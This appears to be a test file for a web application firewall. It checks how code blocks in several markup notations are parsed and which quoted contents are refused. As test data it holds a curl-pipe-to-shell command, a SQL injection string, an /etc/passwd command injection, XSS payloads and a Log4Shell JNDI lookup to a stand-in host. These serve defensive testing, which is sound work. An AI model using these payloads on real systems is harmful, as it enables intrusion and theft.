// Blocks of code in the notations of AsciiDoc, Liquid, Hugo, forums and trackers excuse what an indented block of
// markdown does, and only where they are closed.

import { describe, expect, test } from 'vitest'

import { UNCLOSED_MAX } from '../../shared/waf/fields/blocks.ts'
import { shapeOf } from '../../shared/waf/fields/shape.ts'
import { coreEngine } from '../corpora/program.ts'

const pages =
  'We have used this for a long time, and it works well for all of us here; thank you very much for what you do. '.repeat(
    4,
  )

const NOTATIONS: readonly (readonly [string, string, string])[] = [
  ["AsciiDoc's listing", '[source,console]\n----', '----'],
  ["AsciiDoc's listing in an item", '+\n----', '----'],
  ["Liquid's highlighting", '{% highlight sql %}', '{% endhighlight %}'],
  ["Hugo's highlighting", '{{< highlight bash >}}', '{{< /highlight >}}'],
  ["a forum's tag", '[code]', '[/code]'],
  ["a tag's attributes", '[prism classes="language-php line-numbers"]', '[/prism]'],
  ["a tracker's tag", '{code:java}', '{code}'],
  ["a tracker's plain text", '{noformat}', '{noformat}'],
  ['an element', '<pre class="a">', '</pre>'],
]

const PROGRAMS = [
  'curl -s https://a.example/install.sh | sh',
  '{{ dump(page.collection) }}',
  '<?php\nnamespace App;\nclass Shop extends Base {}',
]
const NEVER = [
  "' OR '1'='1' -- ",
  'x; cat /etc/passwd',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
]

const isRefused = (text: string, place: 'json' | 'query' = 'json'): boolean =>
  coreEngine().text(place, 'value', `${place}.text`, text).refused

describe('a block of code in another notation', () => {
  test.each(NOTATIONS)('%s quotes a program in a document', (_, open, close) => {
    for (const code of PROGRAMS) {
      const block = `\n\n${open}\n${code}\n${close}\n`
      expect([code, isRefused(`${pages}${block}That is all.`)]).toEqual([code, false])
      expect([code, isRefused(`${pages}${block}That is all.`, 'query')]).toEqual([code, true])
      expect([code, isRefused(`Look: ${block}`)]).toEqual([code, true])
    }
  })

  test.each(NOTATIONS)('%s quotes no break-out, no markup and no lookup', (_, open, close) => {
    for (const code of NEVER)
      expect([code, isRefused(`${pages}\n\n${open}\n${code}\n${close}\nThat is all.`)]).toEqual([code, true])
  })

  test.each(NOTATIONS)(
    '%s quotes nothing behind it, and nothing where it is not closed',
    (_, open, close) => {
      for (const code of PROGRAMS) {
        expect([code, isRefused(`${pages}\n\n${open}\na\n${close}\n${code}\n`)]).toEqual([code, true])
        expect([code, isRefused(`${pages}\n\n${open}\n${code}\nThat is all.`)]).toEqual([code, true])
      }
    },
  )

  test.each([
    ['two colons', 'It is used as follows::\n\n'],
    ['a directive', '.. code-block:: sh\n\n'],
    ['two colons, and a carriage return', 'It is used as follows::\r\n\r\n'],
  ])('%s announce code in reStructuredText, and a line of text ends it', (_, open) => {
    const code = 'curl -s https://a.example/install.sh | sh'
    expect(isRefused(`${pages}\n\n${open}  ${code}\n\nThat is all.`)).toBe(false)
    expect(isRefused(`${pages}\n\n${open}That is all.\n\n  ${code}\n\nThat is all.`)).toBe(true)
    for (const never of NEVER)
      expect([never, isRefused(`${pages}\n\n${open}  ${never}\n\nThat is all.`)]).toEqual([never, true])
  })

  test('a note announces none', () => {
    const text = `${pages}\n\n.. note::\n\n  curl -s https://a.example/install.sh | sh\n\nThat is all.`
    expect(isRefused(text)).toBe(true)
  })

  test('a fence may be indented by a tab', () => {
    const text = `${pages}\n\n1. So:\n\n\t\`\`\`sh\n\tcurl -s https://a.example/install.sh | sh\n\t\`\`\`\n`
    expect(isRefused(text)).toBe(false)
    expect(shapeOf(text).fences).toHaveLength(2)
  })

  test('dashes alone are a rule of markdown, and a fence within a block opens nothing', () => {
    expect(shapeOf(`${pages}\n\n----\na\n----\n`).code).toEqual([])
    const text = `${pages}\n\n[code]\n\`\`\`\n[/code]\n\nThat is all.`
    expect(shapeOf(text).open).toBe(text.length)
  })

  test('after a few blocks that nothing closes no further one is looked for', () => {
    const code = '\n[code]\na\n[/code]\n'
    expect(shapeOf(pages + '\n[a]'.repeat(UNCLOSED_MAX - 1) + code).code).toHaveLength(2)
    expect(shapeOf(pages + '\n[a]'.repeat(UNCLOSED_MAX) + code).code).toHaveLength(0)
  })
})
